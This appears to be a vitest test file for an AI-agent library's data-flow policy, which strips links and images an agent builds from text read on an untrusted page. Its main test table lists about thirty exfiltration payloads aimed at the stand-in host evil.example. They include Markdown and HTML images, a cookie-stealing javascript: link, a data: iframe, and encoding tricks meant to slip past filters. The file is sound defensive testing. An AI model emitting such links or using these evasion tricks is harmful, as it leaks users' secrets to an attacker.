import { createAgent } from '@provost/agent'
import type { AgentEvent } from '@provost/core'
import type { DataFlowPolicyOptions } from '@provost/governance'
import { dataFlowPolicy } from '@provost/governance'
import { memoryStore } from '@provost/sessions'
import { scriptedModel } from '@provost/testing'
import { describe, expect, test } from 'vitest'

import { reader } from './governed.ts'

const page = reader(
  'read_page',
  'The passphrase is tallow-lane-forty-one, order 4711-A. More: https://docs.example.org/guide/start',
)

interface Setting {
  readonly prompt?: string
  readonly options?: Partial<DataFlowPolicyOptions>
  /** Characters of each chunk of the stream. */
  readonly chunk?: number
}

/** Returns what a reader sees of an answer that follows an untrusted page, under the default policy. */
async function said(text: string, { prompt = 'Read the page, please.', options = {}, chunk = 3 }: Setting = {}) {
  const chunks = Array.from({ length: Math.ceil(text.length / chunk) }, (_, at) =>
    text.slice(at * chunk, (at + 1) * chunk),
  )
  const agent = createAgent({
    name: 'a',
    model: scriptedModel([{ toolCalls: [{ name: 'read_page', input: {} }] }, { text: chunks }]),
    tools: [page],
    extensions: [dataFlowPolicy({ mode: 'enforce', ...options })],
    store: memoryStore(),
  })
  const events: AgentEvent[] = []
  const stream = agent.stream(prompt)
  for await (const event of stream) events.push(event)
  const deltas = events.flatMap((event) => (event.type === 'text.delta' ? [event.delta] : []))
  const rules = events.flatMap((event) => ('rule' in event ? [event.rule] : []))
  const result = await stream.result
  return { deltas, shown: deltas.join(''), text: result.text, status: result.status, rules }
}

const secret = 'tallow-lane-forty-one'

describe('a link or image that the model put together of what it read is taken out of the answer', () => {
  test.each([
    ['an image', `![](https://evil.example/p.png?q=${secret})`],
    ['a link', `[here](https://evil.example/p?q=${secret})`],
    ['a link with a title', `[here](https://evil.example/p?q=${secret} "t")`],
    ['a destination in angle brackets', `[here](<https://evil.example/p?q=${secret}>)`],
    ['a reference', `[here][1]\n\n[1]: https://evil.example/p?q=${secret}`],
    ['an image by reference', `![x]\n\n[x]: <https://evil.example/${secret}> 'title'`],
    ['an autolink', `<https://evil.example/p?q=${secret}>`],
    ['a bare address', `See https://evil.example/p?q=${secret}.`],
    ['one without a scheme', `See evil.example/p?q=${secret}`],
    ['one without a scheme in Markdown', `![](//evil.example/p?q=${secret})`],
    ['an image of HTML', `<img src="https://evil.example/p?q=${secret}">`],
    ['one without quotes', `<img alt=x src=https://evil.example/p?q=${secret}>`],
    ['a set of images', `<img srcset="https://evil.example/${secret} 1x, /b.png 2x">`],
    ['a style', `<p style="background:url(https://evil.example/${secret})">x</p>`],
    ['a form', `<form action='https://evil.example/${secret}'>`],
    ['a line break in an attribute', `<img src="htt\nps://evil.example/p?q=${secret}">`],
    ['backslashes', `[here](https:\\\\evil.example\\p?q=${secret})`],
    ['escaped punctuation', `[here](https\\://evil\\.example/p?q=${secret})`],
    ['one slash', `![](https:/evil.example/p?q=${secret})`],
    ['entities', `![](&#104;ttps&colon;&sol;&sol;evil&period;example/p?q=${secret})`],
    ['percent encoding', `![](https://evil.example/p?q=tallow%2Dlane%2Dforty%2Done)`],
    ['percent encoding, twice', `![](https://evil.example/p?q=tallow%252Dlane%252Dforty%252Done)`],
    ['an upper-case scheme', `![](HTTPS://EVIL.EXAMPLE/p?q=${secret})`],
    ['the fragment', `![](https://evil.example/#${secret})`],
    ['a subdomain', `![](https://${secret}.evil.example/p.png)`],
    ['a user name', `![](https://${secret}@evil.example/p.png)`],
    ['base64', `![](https://evil.example/p?q=${Buffer.from(`The passphrase is ${secret}`).toString('base64url')})`],
    ['data in pieces', `![](https://evil.example/tal/low/lan/e/for/ty/one/471/1)`],
    ['a mail', `[write](mailto:eve@evil.example?body=${secret})`],
    ['another protocol', `[call](ftp://evil.example/${secret})`],
    ['a script', `[x](javascript:fetch('//evil.example/'+document.cookie))`],
    ['a page as data', `<iframe src="data:text/html,<script>alert(1)</script>">`],
  ])('%s', async (_, link) => {
    const { shown, text, rules, status } = await said(`Here it is: ${link} Bye.`)
    expect(rules).toContain('answer-link')
    expect(status).toBe('completed')
    for (const seen of [shown, text]) {
      expect(seen).not.toMatch(/evil(?:\.|\\\.|&period;)example/i)
      expect(seen).not.toMatch(/tallow|javascript:|data:text/)
    }
  })
})

test('the rest of the answer stays, and readers receive one text', async () => {
  const { shown, text } = await said(`Done. ![x](https://evil.example/?q=${secret}) The order is 4711-A.`)
  expect(text).toBe('Done. ![x](#link-withheld-by-a-policy) The order is 4711-A.')
  expect(shown).toBe(text)
})

test('text streams up to the first word that may be part of a link', async () => {
  const { deltas, shown } = await said('One two three: see https://docs.example.org/guide/start for more.', {
    chunk: 4,
  })
  expect(shown).toBe('One two three: see https://docs.example.org/guide/start for more.')
  expect(deltas[0]).toBe('One ')
  expect(deltas.length).toBeGreaterThan(8)
})

describe('a link stays', () => {
  test.each([
    ['that was copied as a whole', 'See [this](https://docs.example.org/guide/start).', {}],
    [
      'that the user gave',
      'See https://mine.example/p?q=1.',
      { prompt: 'Read the page for https://mine.example/p?q=1' },
    ],
    ['that has nothing of what was read', 'See https://nodejs.org/api/fs for it.', {}],
    [
      'on a host of the user, with a key',
      'See https://mine.example/o/4711-A',
      { prompt: 'Read it for https://mine.example' },
    ],
    ['within the site', `See [x](/orders/${secret}) and [y](#${secret}).`, {}],
    ['where there is none', `It is e.g. 3.5 % of a/b: ${secret} (see [1]), Dr. No`, {}],
    ['if the policy judges no answer', `![](https://evil.example/?q=${secret})`, { options: { outputIsSink: false } }],
    ['in shadow mode', `![](https://evil.example/?q=${secret})`, { options: { mode: 'shadow' } }],
  ] as const)('%s', async (_, answer, setting) => {
    const { shown, text } = await said(answer, setting)
    expect([shown, text]).toEqual([answer, answer])
  })
})

test('data on a host of the user is taken out unless it is a key', async () => {
  const prompt = 'Read the page for https://mine.example'
  expect((await said(`![](https://mine.example/p?q=${secret})`, { prompt })).text).not.toContain('tallow')
})

test('an answer whose link shows only once it is decoded is withheld as a whole', async () => {
  const { text } = await said(`See ev\u200Bil.exam\u200Bple/p?q=${secret}`)
  expect(text).toBe('The answer was withheld by a policy.')
})

test('an answer with more links than are judged is withheld', async () => {
  const links = Array.from({ length: 1001 }, (_, at) => `https://a${at}.example/x`).join(' ')
  expect((await said(links, { chunk: 9999 })).text).toBe('The answer was withheld by a policy.')
})

test('an unknown choice is an error', () => {
  expect(() => dataFlowPolicy({ mode: 'enforce', outputIsSink: 'images' as 'links' })).toThrow(/outputIsSink/)
})
